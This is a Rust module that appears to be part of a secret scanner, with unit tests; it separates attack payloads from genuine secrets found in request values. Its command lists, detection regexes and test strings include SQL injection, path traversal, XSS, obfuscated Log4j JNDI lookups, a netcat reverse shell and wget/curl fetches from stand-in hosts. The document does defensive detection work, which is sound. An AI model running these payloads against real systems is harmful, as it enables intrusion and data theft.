//! What attackers write where a secret is expected: commands, statements, links. It is evidence, whatever the name before it says, unless
//! a secret may stand in it.

use std::borrow::Cow;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use super::{spans, value};
use crate::ascii::{Groups, Pattern};
use crate::decode::hex_digit;
use crate::text::is_listed;

/// How much of a value is looked at, in bytes.
const LONGEST: usize = 2048;
/// A word is a secret if it is as long and a machine made it.
const LEAST_SECRET: usize = 6;
/// Letters and digits beside an attack that may be a secret, whoever made it: `Sommer;cat`.
const LEAST_WORD: usize = 6;
/// The same where only the name of a command says that it is one.
const LEAST_BESIDE_NAME: usize = 3;
/// A part of the path of a link that may be a code.
const LEAST_CODE: usize = 8;
/// Letters and digits in a row that may be a secret of their own, wherever they stand; mixed throughout, fewer are enough.
const LEAST_KEY: usize = 12;
const LEAST_MIXED: usize = 8;
/// What looks like one and is a word of attacks.
const WORDS: &str = "base64-encode base64-decode";

/// What a shell is asked to run, in lower case.
const COMMANDS: &str = "\
    bash sh dash zsh ksh cmd powershell pwsh cat type wget curl nc ncat netcat id whoami uname ping nslookup dig ls dir sleep \
    perl python python2 python3 php ruby chmod rm cp mv tftp ftp certutil bitsadmin mshta rundll32 regsvr32 busybox net ipconfig \
    ifconfig netstat ps kill socat telnet ssh scp base64 openssl awk find grep head tail env printenv sudo su exec eval";
/// What PowerShell is asked to run.
const ALIASES: &str = "iex iwr irm icm saps start gc gci gwmi";
/// How its own commands begin that fetch or run something: `Start-Process`.
const VERBS: &str = "start invoke get new import";
/// What only says what it is given, as a command or in a program.
const SPEAKERS: &str = "echo printf print println puts say write-output write-host out-string console return";
/// Where a command is found whose path is written out.
const PLACES: [&str; 9] = [
    "/bin/", "/sbin/", "/usr/", "/opt/", "/tmp/", "/home/", "/dev/", "/var/", "/root/",
];
/// What runs a program that it is given.
const INTERPRETERS: &str =
    "bash dash sh zsh ksh python python2 python3 perl ruby php node pwsh powershell nc ncat curl wget";
/// What a link fetches that is an attack.
const KINDS: &str = "\
    php php3 php5 phtml phar txt html htm shtml asp aspx ashx jsp jspx do cgi sh bash ps1 psm1 exe dll bat cmd vbs js hta py pl rb elf \
    bin so class jar war xml json yml yaml dtd xsl svg png jpg jpeg gif ico css gz tgz tar zip rar 7z apk ini conf cfg log sql bak \
    x86 x64 arm arm5 arm7 mips mpsl scr msi lnk iso doc docm xls xlsm pdf inc";
/// What PHP opens that is no file.
const STREAMS: &str = "filter input output stdin stdout memory temp fd";

// A sign and a word each; lower case.
static ATTACK: LazyLock<Pattern> = LazyLock::new(|| {
    let forms = [
        r"\$\{",
        r"(?:\$\(|`)([a-z0-9]{2,12})(?:[ /\t]|\$\{ifs)",
        r"\.\.[/\\](?:\.\.[/\\]|etc/|proc/|windows[/\\]|winnt[/\\]|boot\.ini|web-inf)",
        r"<(?:script|img|svg|iframe|body|object|embed|\?php|\?xml|!doctype|!entity)\b",
        r"\bunion(?:\s|/\*\*/|/\*!)+(?:all\s+)?(?:distinct\s+)?select\b",
        r#"['"();]\s*select\b[^\n]{1,64}?(?:\bfrom\b|\()"#,
        r#"(?:['"\s)]|\*/)(?:or|and)(?:\s|/\*\*/)+(?:\d+\s*[=<>]|['"]|(?:not\s+)?(?:exists|sleep|select)\s*\(|select\b[^\n]{1,64}?\bfrom\b)"#,
        r#"['");]\s*(?:or|and|\|\||&&)['"\s]+\w+['"]?\s*(?:=|like\b)"#,
        r"\b(?:pg_sleep|sleep|benchmark|extractvalue|updatexml|load_file)\s?\(",
        r#"\bwaitfor\s+delay\b|\bxp_cmdshell\b|\binformation_schema\b|['";]\s*drop\s+table\b|['")]\s*order\s+by\s+\d"#,
    ];
    Pattern::new(&forms.join("|"))
});
static JOINED: LazyLock<Pattern> =
    LazyLock::new(|| Pattern::new(r"[;|&\n]\s*(?:/(?:usr/)?s?bin/)?([a-z0-9]{2,12})(?:[ \t/;|&]|$)"));
static LINK: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::new(r"^(?:https?|ftp|ldaps?|rmi|dns|file|gopher|dict|php|data|phar|jar|expect|smb)://[a-z0-9\[/]")
});

/// Whether a header or cookie begins with what Log4j or a shell looks up: `${jndi:…}`, `$(curl …)`.
pub(super) fn is_lookup(value: &str) -> bool {
    (value.starts_with("${") || value.starts_with("$(")) && is_attack(value)
}

/// Whether the value of a parameter is an attack, as it stands or once its percent signs are decoded. With a secret in it, it is none: in
/// doubt a word before it or behind it is one.
pub(super) fn is_attack(value: &str) -> bool {
    if !value.contains(['$', '`', '.', '<', '%', '\'', '"', '+', ' ', '\t', ';', '|', ':', '(']) {
        return false;
    }
    let value = &value[..spans::floor(value, LONGEST)];
    let plain = decoded(value, b' ');
    let lower = plain.to_ascii_lowercase();
    let Some((at, least)) = begins(&lower) else {
        return false;
    };
    let attack = &plain[at..];
    // In a link a plus is one.
    let holds_secret = holds_key(&plain) || LINK.is_match(&lower) && holds_key(&decoded(value, b'+'));
    let made = before(&plain[..at]).trim_end_matches(|c: char| !c.is_alphanumeric());
    if value::looks_made(made, LEAST_SECRET) {
        return false;
    }
    let beside = letters(before(&plain[..at])) + letters(behind_group(attack)) + letters(climbed_to(attack));
    !holds_secret && beside < least
}

// `../../word`: no file is known by it.
fn climbed_to(attack: &str) -> &str {
    let to = attack.trim_start_matches(['.', '/', '\\']);
    if attack.starts_with("..") && !to.contains(['.', '/', '\\']) {
        to
    } else {
        ""
    }
}

// What stands before an attack, unless it is an address: `127.0.0.1;cat /etc/passwd` is one for a field that pings it.
fn before(text: &str) -> &str {
    if text.parse::<IpAddr>().is_ok() { "" } else { text }
}

fn letters(text: &str) -> usize {
    text.chars().filter(|c| c.is_alphanumeric()).count()
}

/// What stands behind `${…}`, `$(…)` or one of them after the other at the start of a text. Nothing does if it was cut.
pub(super) fn behind_group(mut text: &str) -> &str {
    while let Some((open, close)) = match text.as_bytes() {
        [b'$', b'{', ..] => Some((b'{', b'}')),
        [b'$', b'(', ..] => Some((b'(', b')')),
        _ => None,
    } {
        let mut depth = 0_usize;
        let end = text.bytes().position(|b| {
            if b == open {
                depth += 1;
            } else if b == close {
                depth = depth.saturating_sub(1);
            }
            b == close && depth == 0
        });
        let Some(end) = end else { return "" };
        text = &text[end + 1..];
        // Only the second of two may follow.
        if !text.starts_with('$') {
            return text;
        }
    }
    ""
}

// Whether the lookup that a text in lower case begins with is one of names, once those in it that spell a letter are read:
// `${${lower:j}ndi:…}`.
fn looks_up(text: &str) -> bool {
    let mut said = String::with_capacity(text.len());
    let mut open = Vec::new();
    let spell = |said: &mut String, from: usize| {
        let inner = &said[from..];
        let spelt = inner
            .rfind(":-")
            .map(|at| at + 2)
            .or_else(|| inner.starts_with("lower:").then_some(6))
            .or_else(|| inner.starts_with("upper:").then_some(6));
        let spelt = spelt.map(|at| inner[at..].to_owned()).unwrap_or_default();
        said.truncate(from);
        said.push_str(&spelt);
    };
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some(inside) = rest.strip_prefix("${") {
            open.push(said.len());
            rest = inside;
            continue;
        }
        if c == '}'
            && let Some(from) = open.pop()
        {
            if open.is_empty() {
                return said[from..].starts_with("jndi:");
            }
            spell(&mut said, from);
        } else {
            said.push(c);
        }
        rest = &rest[c.len_utf8()..];
    }
    while open.len() > 1 {
        let from = open.pop().unwrap_or_default();
        spell(&mut said, from);
    }
    said.starts_with("jndi:")
}

fn holds_key(plain: &str) -> bool {
    plain
        .split(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '-' | '_' | '+'))
        .any(|part| {
            let has = |test: fn(&u8) -> bool| part.as_bytes().iter().any(test);
            let mixed = has(u8::is_ascii_digit) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_uppercase);
            (value::looks_made(part, LEAST_KEY) || mixed && part.len() >= LEAST_MIXED)
                && !is_listed(WORDS, &part.to_ascii_lowercase())
        })
}

// Where an attack begins, and how many letters beside it may be a secret.
fn begins(plain: &str) -> Option<(usize, usize)> {
    // `$(echo …)` says it, `$(curl …)` gets it.
    let is_run = |found: &Groups<'_>| {
        let whole = found.get(0).map_or("", |whole| &plain[whole.start()..]);
        match found.get(1) {
            Some(name) => runs(&plain[name.start()..]),
            None => !whole.starts_with("${") || looks_up(whole),
        }
    };
    if let Some(found) = ATTACK.captures_iter(plain).find(is_run) {
        return found.get(0).map(|whole| (whole.start(), LEAST_WORD));
    }
    let runs = |found: &Groups<'_>| {
        found.get(1).is_some_and(|name| {
            // `7|id|X`: parts of one value.
            let is_part = plain[..name.start()].ends_with('|')
                && plain[name.end()..]
                    .strip_prefix('|')
                    .is_some_and(|behind| !behind.is_empty());
            is_listed(COMMANDS, name.as_str()) && !is_part
        })
    };
    if let Some(found) = JOINED.captures_iter(plain).find(runs) {
        let (whole, name) = (found.get(0)?, found.get(1)?);
        let bare = name.end() == plain.trim_end().len();
        let least = if bare { LEAST_BESIDE_NAME } else { LEAST_WORD };
        return Some((whole.start(), least));
    }
    is_link(plain).then_some((0, LEAST_WORD))
}

// A link that fetches something, without a place for a secret. Any other may be one: that of a reset ends with its code.
fn is_link(plain: &str) -> bool {
    let bare = plain.strip_suffix('?').unwrap_or(plain);
    if !LINK.is_match(bare) || bare.contains(['@', '?', '#']) {
        return false;
    }
    let Some((scheme, rest)) = bare.split_once("://") else {
        return false;
    };
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    match scheme {
        "file" => path.contains('/'),
        "php" => is_listed(STREAMS, host),
        "data" => path.contains(','),
        "gopher" | "dict" | "phar" | "jar" | "expect" => !path.is_empty() || host.contains(['.', ':']),
        _ => {
            let last = path.rsplit('/').next().unwrap_or_default();
            let is_file = last
                .rsplit_once('.')
                .is_some_and(|(stem, kind)| !stem.is_empty() && is_listed(KINDS, kind));
            let is_code = |part: &str| value::looks_made(part, LEAST_CODE);
            is_file || is_address(host) && !path.split('/').any(is_code)
        }
    }
}

// `203.0.113.9:80`, `[::1]:8080`, `localhost`
fn is_address(host: &str) -> bool {
    let bare = match host.strip_prefix('[') {
        Some(inner) => inner.split(']').next().unwrap_or(inner),
        None => host.split(':').next().unwrap_or(host),
    };
    bare == "localhost" || bare.parse::<IpAddr>().is_ok()
}

/// An address in numbers, with or without a port: `203.0.113.9:80`, `2001:db8::5`, `[2001:db8::5]:443`.
fn is_numbered(word: &str) -> bool {
    let host = word.rsplit_once(':').map_or(word, |(host, _)| host);
    let inner = |host: &str| host.strip_prefix('[')?.strip_suffix(']')?.parse::<Ipv6Addr>().ok();
    // Words may have `::` in them.
    let has_groups = || word.matches(':').count() >= 3;
    host.parse::<Ipv4Addr>().is_ok()
        || has_groups() && word.parse::<Ipv6Addr>().is_ok()
        || inner(word).or_else(|| inner(host)).is_some()
}

// Encoded twice is decoded twice.
fn decoded(value: &str, plus: u8) -> Cow<'_, str> {
    if !value.contains(['%', '+']) {
        return Cow::Borrowed(value);
    }
    let mut text = value.to_owned();
    for _ in 0..2 {
        let bytes = text.as_bytes();
        let mut plain = Vec::with_capacity(bytes.len());
        let mut at = 0;
        while let Some(&byte) = bytes.get(at) {
            let code = (byte == b'%')
                .then(|| Some(hex_digit(*bytes.get(at + 1)?)? << 4 | hex_digit(*bytes.get(at + 2)?)?))
                .flatten();
            plain.push(code.unwrap_or(if byte == b'+' { plus } else { byte }));
            at += if code.is_some() { 3 } else { 1 };
        }
        text = String::from_utf8_lossy(&plain).into_owned();
    }
    Cow::Owned(text)
}

/// Whether what stands between two backticks, or behind one, is a command whose output is the value, and not the value itself.
pub(super) fn runs(text: &str) -> bool {
    let text = text.trim_start().trim_start_matches('`');
    // `sh -c "echo X"` says it too.
    if says(text) {
        return false;
    }
    let (first, rest) = text.split_once([' ', '+']).unwrap_or((text, ""));
    let name = first.rsplit('/').next().unwrap_or(first);
    let rest = rest.replace('+', " ");
    // `cat X`: the word may be the secret.
    let holds_secret = rest.split_whitespace().map(bare).any(|word| {
        !word.starts_with('-') && !word.contains(['/', '\\', '.', ':']) && value::looks_made(word, LEAST_SECRET)
    });
    !rest.is_empty() && !holds_secret && (is_listed(COMMANDS, name) || goes_on(&rest))
}

/// Whether one of these words only says what it is given, or what is fed is given: `cat <<< X`.
pub(super) fn says(words: &str) -> bool {
    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_';
    words.contains("<<")
        || words
            .split(|c: char| !is_part(c))
            .any(|word| is_listed(SPEAKERS, &word.to_ascii_lowercase()))
}

fn bare(word: &str) -> &str {
    word.trim_matches(['"', '\'', '(', ')', '`', ','])
}

/// Whether one of these words may be a secret, and is no switch, path, link or address.
pub(super) fn names_what_looks_made(words: &str) -> bool {
    words
        .split_whitespace()
        .any(|word| value::looks_made(bare(word), LEAST_SECRET) && !goes_on(word))
}

/// Whether these words are those of a command: one of them is a switch, a path, a link, an address.
fn goes_on(words: &str) -> bool {
    words.split_whitespace().any(|word| {
        let bare = bare(word);
        let switch = bare.trim_start_matches('-');
        let is_switch =
            (1..=2).contains(&(bare.len() - switch.len())) && switch.starts_with(|c: char| c.is_ascii_alphabetic());
        let is_path = ["./", "../", "~/", "\\\\"].iter().any(|start| bare.starts_with(start))
            || bare.starts_with('/') && bare[1..].starts_with(|c: char| c.is_ascii_alphanumeric())
            || value::begins_with_drive(bare);
        is_switch || is_path || bare.contains("://") || is_numbered(bare)
    })
}

/// Whether these words are a command that a variable is set for, and not the rest of a passphrase. It is one behind what a machine made:
/// a program with what a command goes on with, or the path of one with that or nothing; and behind a word if it names an address or a place, runs an
/// interpreter, or has a switch right behind its path.
pub(super) fn is_command(value: &str, words: &str) -> bool {
    let (first, rest) = words.split_once(' ').unwrap_or((words, ""));
    let is_placed = |word: &str| {
        let bare = bare(word);
        bare.contains("://") || is_numbered(bare) || PLACES.iter().any(|place| bare.starts_with(place))
    };
    if PLACES.iter().any(|place| bare(first).starts_with(place)) {
        return true;
    }
    let is_made = value::looks_made(value, 2);
    let is_path = ["./", "../", "~/"].iter().any(|start| first.starts_with(start))
        || first.strip_prefix('/').is_some_and(|path| path.contains('/'));
    // `./xmrig -o pool.example:3333`
    let has_switch = || rest.starts_with('-') && goes_on(rest);
    let is_sure = || is_made || is_listed(INTERPRETERS, first) || rest.split_whitespace().any(is_placed);
    is_path && (has_switch() || is_made && rest.split_whitespace().next().is_none_or(goes_on))
        || names_program(first) && goes_on(rest) && is_sure()
}

/// Whether a word names a program, or what PowerShell calls one: `Start-Process`, `iex`.
pub(super) fn is_program(word: &str) -> bool {
    names_program(word)
        || word.split_once('-').is_some_and(|(verb, noun)| {
            is_listed(VERBS, &verb.to_ascii_lowercase())
                && noun.len() >= 2
                && noun.bytes().all(|b| b.is_ascii_alphabetic())
        })
}

fn names_program(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    let lower = lower.strip_suffix(".exe").unwrap_or(&lower);
    is_listed(COMMANDS, lower) || is_listed(ALIASES, lower)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_attack_is_known_by_a_sign_and_a_word() {
        for attack in [
            "1%20UNION%20SELECT%20user%2Cpass%20FROM%20users",
            "1+union+all+select+null,version()",
            "1%27%20OR%20%271%27%3D%271",
            "' or 1=1-- -",
            "x' AND SLEEP(5)--",
            "1;waitfor delay '0:0:5'",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252fetc/passwd",
            "..%5c..%5cwindows%5cwin.ini",
            "%24%28curl%20http%3A%2F%2F203.0.113.9%2Fa%29",
            "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D",
            "${${lower:j}ndi:ldap://203.0.113.9/a}",
            "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
            "\"><img src=x onerror=alert(1)>",
            "a%3Bcat%20/etc/passwd",
            "x|id",
            "%60wget%20http://203.0.113.9/x%60",
            "http://203.0.113.9/shell.txt",
            "php://filter/convert.base64-encode/resource=index",
            "file:///etc/passwd",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "http://203.0.113.9:8080/a",
            "http://[::1]/latest/meta-data/",
            "ldap://203.0.113.9:1389/a",
            "https://evil.example/x.php?",
            "admin' or 1=1-- -",
            "127.0.0.1;cat /etc/passwd",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a",
            "$(wget http://203.0.113.9/x)",
        ] {
            assert!(is_attack(attack), "{attack}");
        }
        for secret in [
            "hunter2",
            "Din%20go88%21",
            "two or three words",
            "correct horse battery staple",
            "union-select-9X",
            "$ecret!9",
            "Pa$$(word9",
            "a..b/c..d",
            "x<3you!9",
            "C0nnStr!ng;Encrypt",
            "abc;def|ghi",
            "Pw9;idea",
            "Zm9v+YmFy/MTIz==",
            "https://hooks.example/x/a8Fk29dkQ03mZpL1",
            "https://h/x?sig=abc",
            "postgres://u:p@h/db",
            "wR7!`x",
            "Quot3dPw9xY7%3Bcat%20/etc/passwd",
            "7|id|a8Fk29dkQ03mZpL1",
            "lang%7Cid%7Cword",
            "Wint3r%3Bps",
            "../../Ab3dEfGh9kLmN0pQ",
            "eat+and+sleep+well+99",
            "https://app.example/reset/Ab3dEfGh9k",
            "https://app.example/r/Ab3d+EfGh9k+LmN9/opQ8rSt",
            "${env:X:-a8Fk29dkQ03mZpL1}",
            "https://app.example/reset/abcdef12345",
            "https%3A%2F%2Fapp.example%2Fu%2Fgeheimeswort",
            "http://sommer",
            "php://sommer",
            "gopher://sommer",
            "ldap://corp.example/abc123xyz",
            "http://203.0.113.9/reset/abcdef12345",
            "..%2f..%2fgeheim",
            "geheim%3Bcat",
            "geheim;cat /etc/passwd",
            "Sommer|id",
            "Hallo%26%26ls",
            "winterland' or 1=1",
            "P@$$w0rd' or 1=1--",
            "correct+horse+and+sleep(battery)",
            "${ab:cd}Hallo99",
            "${ab:cd}",
            "${env:HOME}Hallo99",
            "${jndi:ldap://evil.example/a}Hallo99",
            "$(wget http://203.0.113.9/x)Hallo99",
        ] {
            assert!(!is_attack(secret), "{secret}");
        }
    }

    #[test]
    fn a_command_behind_an_assignment_is_none_of_a_passphrase() {
        for (value, words) in [
            ("Red1sPw77", "./deploy"),
            ("Red1sPw77", "./deploy --all now"),
            ("geheim", "/usr/bin/psql -h db shop"),
            ("geheim", "nc 203.0.113.9 443"),
            ("geheim", "nc 2001:db8::5 443"),
            ("geheim", "ncat [2001:db8::5]:443"),
            ("a1", "bash -i"),
            ("geheim", "/dev/shm/evil -o pool.evil.example"),
            ("x", "./xmrig -o pool.example:3333"),
            ("a", "python3 -c 'import evil'"),
        ] {
            assert!(is_command(value, words), "{words}");
        }
        for (value, words) in [
            ("correct", "./horse battery"),
            ("correct", "./horse"),
            ("correct", "http://horse battery staple"),
            ("mein", "10.0.0.1 hund bellt"),
            ("Tr0ub4dor", "./horse battery"),
            ("correct", "/horse/battery staple"),
            ("my", "cat -s fat"),
        ] {
            assert!(!is_command(value, words), "{words}");
        }
    }

    #[test]
    fn a_command_goes_on_with_switches_paths_links_and_addresses() {
        for words in [
            "nc 203.0.113.9 443",
            "-PassThru",
            "./deploy",
            "x C:\\a\\b.exe",
            "(iwr http://h/x)",
            "sh /tmp/x",
        ] {
            assert!(goes_on(words), "{words}");
        }
        for words in ["horse battery", "and/or / maybe", "- or -- that", "9 lives"] {
            assert!(!goes_on(words), "{words}");
        }
        assert!(runs("curl http://203.0.113.9/x"));
        assert!(runs("nc -e /bin/sh 203.0.113.9 443"));
        assert!(!runs("hunter2"));
        assert!(!runs("two words"));
        assert!(!runs("echo Dingo88 | x"));
        assert!(!runs("cat Dingo88xY"));
        for said in [
            "sh -c \"echo X\"",
            "/bin/bash -c 'printf X'",
            "cmd /c echo X",
            "python3 -c 'print(\"X\")'",
            "env A=1 /bin/echo X",
            "cat - <<< X",
        ] {
            assert!(!runs(said), "{said}");
        }
        assert!(runs("sh -c 'curl http://203.0.113.9/x'"));
    }
}
